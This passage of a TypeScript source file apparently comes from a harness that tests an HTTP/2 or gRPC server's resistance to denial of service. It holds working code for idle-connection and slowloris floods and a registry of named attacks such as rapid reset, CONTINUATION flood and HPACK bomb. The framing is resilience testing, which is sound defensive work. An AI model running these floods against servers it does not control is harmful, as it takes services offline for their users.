  }
  return { conns, failed };
}

/** 2000 TCP connections that never send the preface, held until the server closes them or time runs out. */
export const idleNoPreface: Attack = async (port, options) => {
  const t0 = performance.now();
  const deadline = t0 + options.maxMs;
  const full = 2000;
  const { conns, failed } = await openMany(port, scaled(full, options.scale), { read: 'always', preface: false, t0, host: options.host, deadline });
  while (performance.now() < deadline && conns.some((c) => !c.closed)) await sleep(100);
  const stoppedBy = conns.every((c) => c.closed) ? 'closed' : 'time';
  for (const c of conns) c.leave();
  return report('idle-no-preface', t0, conns, { units: conns.length, unitName: 'connections', planned: full, stoppedBy, notes: failed ? [`${failed} connections failed to open`] : [] });
};

/** Slowloris: 2000 connections each sending the preface one byte per second (24 s), until the server closes them or time runs out. */
export const slowlorisPreface: Attack = async (port, options) => {
  const t0 = performance.now();
  const deadline = t0 + options.maxMs;
  const full = 2000;
  const { conns, failed } = await openMany(port, scaled(full, options.scale), { read: 'always', preface: false, t0, host: options.host, deadline });
  let bytes = 0;
  for (let next = 0; performance.now() < deadline && conns.some((c) => !c.closed); next++) {
    if (next < CLIENT_PREFACE.length) {
      for (const c of conns) c.write(CLIENT_PREFACE.subarray(next, next + 1));
      bytes = next + 1;
    }
    await sleep(Math.min(1000, deadline - performance.now()));
  }
  const stoppedBy = conns.every((c) => c.closed) ? 'closed' : 'time';
  for (const c of conns) c.leave();
  return report('slowloris-preface', t0, conns, {
    units: conns.length,
    unitName: 'connections',
    planned: full,
    stoppedBy,
    notes: [`${bytes} of ${CLIENT_PREFACE.length} preface bytes sent, one a second`, ...(failed ? [`${failed} connections failed to open`] : [])],
  });
};

export const ATTACKS: readonly AttackEntry[] = [
  { name: 'zero-window-1MB', what: 'INITIAL_WINDOW_SIZE 0, 400 SayHello with a 1 MB name (forwarded)', run: zeroWindow1MB },
  { name: 'zero-window-15KB', what: 'INITIAL_WINDOW_SIZE 0, 20,000 SayHello with a 15 KB name (fast path)', run: zeroWindow15KB },
  { name: 'zero-window-health', what: 'INITIAL_WINDOW_SIZE 0, 20,000 health Check (forwarded)', run: zeroWindowHealth },
  { name: 'continuation-flood', what: 'HEADERS without END_HEADERS, then 1.5 M empty CONTINUATION', run: continuationFlood },
  { name: 'empty-headers-flood', what: '2 M empty HEADERS, a new stream each', run: emptyHeadersFlood },
  { name: 'empty-data-flood', what: '2 M empty DATA on one open SayHello stream', run: emptyDataFlood },
  { name: 'open-streams-sayhello', what: '100k SayHello streams opened, never finished', run: openStreamsSayHello, manyStreams: true },
  { name: 'open-streams-health', what: '100k health streams opened (forwarded), never finished', run: openStreamsHealth, manyStreams: true },
  { name: 'settings-flood', what: '650k SETTINGS, ACKs never read', run: settingsFlood },
  { name: 'ping-flood', what: '400k PING, ACKs never read', run: pingFlood },
  { name: 'window-update-0-flood', what: '400k streams each reset by the server for WINDOW_UPDATE 0, never read', run: windowUpdate0Flood },
  { name: 'data-on-closed-flood', what: '400k forwarded health streams each reset by the server for DATA after END_STREAM, never read', run: dataOnClosedFlood },
  { name: 'rapid-reset', what: '500k x (SayHello + health) requests, each RST_STREAM CANCEL at once', run: rapidReset },
  { name: 'hpack-bomb', what: '20,000 SayHello with 250 refs to one 4 KB indexed header (~1 MB decoded each)', run: hpackBomb },
  { name: 'forwarded-1MB-headers', what: '2000 health Check (forwarded) with ~1 MB of indexed headers', run: forwardedIndexedHeaders },
  { name: 'oversized-message', what: '100 SayHello streams with a 100 MB length prefix, body as windows allow', run: oversizedMessage },
  { name: 'never-reading', what: '20 connections never reading, 15 KB SayHellos as far as the windows seen allow', run: neverReading },
  { name: 'idle-no-preface', what: '2000 TCP connections that never send the preface', run: idleNoPreface },
  { name: 'slowloris-preface', what: '2000 connections sending the preface one byte a second', run: slowlorisPreface },
];

export function attackNamed(name: string): AttackEntry {
  const entry = ATTACKS.find((a) => a.name === name);
  if (!entry) throw new Error(`no attack named ${name}`);
  return entry;
}
